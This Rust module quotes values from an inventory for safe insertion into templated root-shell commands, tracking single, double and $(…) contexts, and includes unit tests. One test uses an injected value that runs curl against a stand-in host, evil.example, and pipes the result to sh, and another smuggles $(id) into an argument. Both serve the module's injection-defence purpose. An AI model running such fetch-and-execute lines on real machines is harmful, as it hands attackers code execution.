//! Commands are pasted into a root shell, so a value from the inventory must never
//! change a command's structure, whatever the rulebook's template looks like. Each
//! hole of a `command` template is quoted for the shell context it sits in, which is
//! tracked through the template's own text: outside quotes, inside `'…'`, inside
//! `"…"` (and `$(…)` inside double quotes starts a fresh context).
//!
//! Values made only of characters no shell treats specially (`biz-1`, `4.3.0`,
//! `/cpaas/minio`) are written as they are, so ordinary commands read as in the guides.

/// Where in a command a hole sits.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Context {
    Plain,
    Single,
    Double,
}

/// Follows the shell's quoting through literal command text.
#[derive(Clone, Debug)]
pub struct Tracker {
    /// Innermost last; `$(` inside double quotes pushes a plain context.
    stack: Vec<Context>,
    escaped: bool,
    dollar: bool,
}

impl Default for Tracker {
    fn default() -> Tracker {
        Tracker {
            stack: vec![Context::Plain],
            escaped: false,
            dollar: false,
        }
    }
}

impl Tracker {
    pub fn context(&self) -> Context {
        self.stack.last().copied().unwrap_or(Context::Plain)
    }

    /// Moves past literal text of the template.
    pub fn feed(&mut self, text: &str) {
        for c in text.chars() {
            self.step(c);
        }
    }

    fn step(&mut self, c: char) {
        let ctx = self.context();
        if self.escaped {
            self.escaped = false;
            return;
        }
        let after_dollar = std::mem::replace(&mut self.dollar, c == '$' && ctx != Context::Single);
        match (ctx, c) {
            (Context::Single, '\'') => self.pop(),
            (Context::Single, _) => {}
            (_, '\\') => self.escaped = true,
            (Context::Plain, '\'') => self.stack.push(Context::Single),
            (Context::Plain, '"') => self.stack.push(Context::Double),
            (Context::Double, '"') => self.pop(),
            (_, '(') if after_dollar => self.stack.push(Context::Plain),
            (Context::Plain, ')') if self.stack.len() > 1 => self.pop(),
            _ => {}
        }
    }

    fn pop(&mut self) {
        if self.stack.len() > 1 {
            self.stack.pop();
        }
    }
}

/// `value` written so the shell reads it as exactly one word (or the same characters
/// inside the surrounding quotes), in `ctx`.
pub fn quote(value: &str, ctx: Context) -> String {
    if is_safe(value) {
        return value.to_string();
    }
    let word = word(value);
    match ctx {
        Context::Plain => word,
        // close the quotes, add the quoted word, reopen: "abc"'x y'"def"
        Context::Double => format!("\"{word}\""),
        Context::Single => format!("'{word}'"),
    }
}

/// Characters that mean nothing to a POSIX shell or to bash's history expansion.
fn is_safe(value: &str) -> bool {
    !value.is_empty()
        && value
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"@%+=:,./_-".contains(&b))
}

/// One shell word: `'…'` with `'` written as `'\''`; bash's `$'…'` when the value holds
/// control characters, so none reaches the terminal raw.
fn word(value: &str) -> String {
    if value.chars().any(char::is_control) {
        let mut out = String::from("$'");
        for c in value.chars() {
            match c {
                '\'' => out.push_str("\\'"),
                '\\' => out.push_str("\\\\"),
                '\n' => out.push_str("\\n"),
                '\t' => out.push_str("\\t"),
                '\r' => out.push_str("\\r"),
                c if c.is_control() => out.push_str(&format!("\\u{:04x}", c as u32)),
                c => out.push(c),
            }
        }
        out.push('\'');
        return out;
    }
    format!("'{}'", value.replace('\'', "'\\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ctx_after(text: &str) -> Context {
        let mut t = Tracker::default();
        t.feed(text);
        t.context()
    }

    #[test]
    fn tracks_quotes_escapes_and_substitutions() {
        assert_eq!(ctx_after("kubectl get rp "), Context::Plain);
        assert_eq!(ctx_after("violet push --clusters \""), Context::Double);
        assert_eq!(ctx_after("echo 'a"), Context::Single);
        assert_eq!(ctx_after("echo \\\""), Context::Plain);
        assert_eq!(ctx_after("echo \"it's "), Context::Double);
        assert_eq!(ctx_after("curl \"$(kubectl get svc "), Context::Plain);
        assert_eq!(ctx_after("curl \"$(kubectl get svc x)/"), Context::Double);
        assert_eq!(ctx_after("awk '{print $1}' "), Context::Plain);
    }

    #[test]
    fn safe_values_stay_as_written() {
        for v in ["biz-1", "4.3.0", "/cpaas/minio", "a,b", "x=y"] {
            assert_eq!(quote(v, Context::Plain), v);
        }
    }

    #[test]
    fn hostile_values_become_one_word_in_every_context() {
        let v = "rp; curl -s http://evil.example/x | sh #";
        assert_eq!(quote(v, Context::Plain), format!("'{v}'"));
        assert_eq!(quote(v, Context::Double), format!("\"'{v}'\""));
        assert_eq!(quote(v, Context::Single), format!("''{v}''"));
        assert_eq!(quote("it's", Context::Plain), "'it'\\''s'");
        assert_eq!(quote("a\nb", Context::Plain), "$'a\\nb'");
        assert_eq!(quote("\u{1b}[2J", Context::Plain), "$'\\u001b[2J'");
        assert_eq!(quote("", Context::Plain), "''");
        assert_eq!(
            quote("\" --platform-token \"$(id)", Context::Double),
            "\"'\" --platform-token \"$(id)'\""
        );
    }
}
